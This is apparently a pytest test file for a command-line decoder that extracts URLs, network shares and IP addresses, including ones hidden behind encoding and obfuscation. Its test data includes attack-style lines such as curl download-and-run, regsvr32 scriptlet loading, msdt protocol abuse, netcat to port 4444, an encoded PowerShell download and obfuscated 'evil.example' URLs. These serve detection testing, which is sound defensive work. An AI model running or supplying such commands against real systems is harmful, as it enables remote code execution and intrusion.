"""core.decoding.urls: what points to other machines, in every text of a ladder, each once."""

from __future__ import annotations

import pytest

from core.decoding.ladder import decode
from core.decoding.step import UrlKind
from tests.core.decoding.encoding import utf16


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("curl http://example.net/a.txt", ["http://example.net/a.txt"]),
        ("x HTTPS://Example.NET:8443/A?b=c&d=e#f", ["HTTPS://Example.NET:8443/A?b=c&d=e#f"]),
        ("iwr('http://example.net/a');x", ["http://example.net/a"]),
        ("(see http://example.net/a(b)).", ["http://example.net/a(b)"]),
        ("curl http://example.net/a.exe&start a.exe", ["http://example.net/a.exe"]),
        ("curl http://example.net/a;b", ["http://example.net/a"]),
        ("'http://a.example/x,http://b.example/y'", ["http://a.example/x", "http://b.example/y"]),
        ("'http://a.example/x@https://b.example/y'", ["http://a.example/x", "https://b.example/y"]),
        ("regsvr32 /i:http://example.net/a.sct scrobj.dll", ["http://example.net/a.sct"]),
        (
            "x ftp://user@example.net/f http://[2001:db8::1]/g",
            ["ftp://user@example.net/f", "http://[2001:db8::1]/g"],
        ),
        ("explorer https%3A%2F%2Fexample.net%2Fa", ["https://example.net/a"]),
        ("msdt ms-msdt:/id PCWDiagnostic", ["ms-msdt:/id"]),
        ("x http:\\\\example.net/a", ["http:\\\\example.net/a"]),
        ("curl http://example.net/ http://example.net/", ["http://example.net/"]),
        ("x http://$h/a http://%h%/a http:// https://", []),
    ],
)
def test_urls_are_found(line: str, expected: list[str]) -> None:
    """Without what belongs to the sentence or the command around them; not those whose host cannot be known."""
    assert expected == [url.text for url in decode(line).urls]
    assert {url.kind for url in decode(line).urls} <= {UrlKind.URL}


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (r"net use \\fs01\share$ /u:x", [r"\\fs01\share$"]),
        (r'copy "\\fs01.corp.example\my share\a b.txt" c', [r"\\fs01.corp.example\my share\a b.txt"]),
        (r"x \\fs01@SSL\DavWWWRoot\a.exe", [r"\\fs01@SSL\DavWWWRoot\a.exe"]),
        (r"cmd /c cd 1> \\127.0.0.1\ADMIN$\__1 2>&1", [r"\\127.0.0.1\ADMIN$\__1"]),
        (r"x \\?\C:\a \\.\pipe\a C:\\Windows\\System32 \\root\cimv2", []),
        (r"grep '\\d\\w' a\\b\\c", []),
    ],
)
def test_shares_are_found(line: str, expected: list[str]) -> None:
    """Not devices, namespaces and doubled backslashes."""
    assert expected == [url.text for url in decode(line).urls]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ping 192.0.2.1 -n 1", ["192.0.2.1"]),
        ("nc 192.0.2.1:4444", ["192.0.2.1"]),
        ("scan 198.51.100.0/24", ["198.51.100.0"]),
        ("curl http://192.0.2.1/a", ["http://192.0.2.1/a"]),
        ("ping 127.0.0.1", []),
        ("tool --version 10.0.1.2 /ver:1.2.3.4 v1.2.3.4 999.1.1.1 0.1.2.3", []),
        (r"C:\app\1.2.3.4\a.exe a-1.2.3.4 1.2.3.4.5 1.2.3.4-beta", []),
    ],
)
def test_addresses_are_found(line: str, expected: list[str]) -> None:
    """Neither versions nor this machine; one within a URL is not named again."""
    assert expected == [url.text for url in decode(line).urls]


def test_each_stands_at_the_step_where_it_appeared() -> None:
    """The command line itself is step 0; what comes later comes behind."""
    hidden = utf16("iwr http://b.example/ -OutFile \\\\fs01\\s\\x; iwr http://a.example/")
    ladder = decode(f"curl http://a.example/ & powershell -enc {hidden}")

    assert [(url.text, url.kind, url.step) for url in ladder.urls] == [
        ("http://a.example/", UrlKind.URL, 0),
        ("http://b.example/", UrlKind.URL, 1),
        (r"\\fs01\s\x", UrlKind.SHARE, 1),
    ]
    for url in ladder.urls:
        assert url.text == ladder.text_of(url.step)[url.start : url.end]


@pytest.mark.parametrize(
    "line",
    [
        "cmd /c curl http://ev^il.exam^ple/a",
        "powershell iwr 'http://evil'+'.example/a'",
        "powershell iwr ('http://'+'evil.example/a')",
        "curl http://evil.ex%61mple/%61",
        "cmd /c set x=.example&call curl http://evil%x%/a",
    ],
)
def test_fragments_of_an_address_are_not_listed(line: str) -> None:
    """What the next step puts together comes with it, whole."""
    assert [url.text for url in decode(line).urls] == ["http://evil.example/a"]
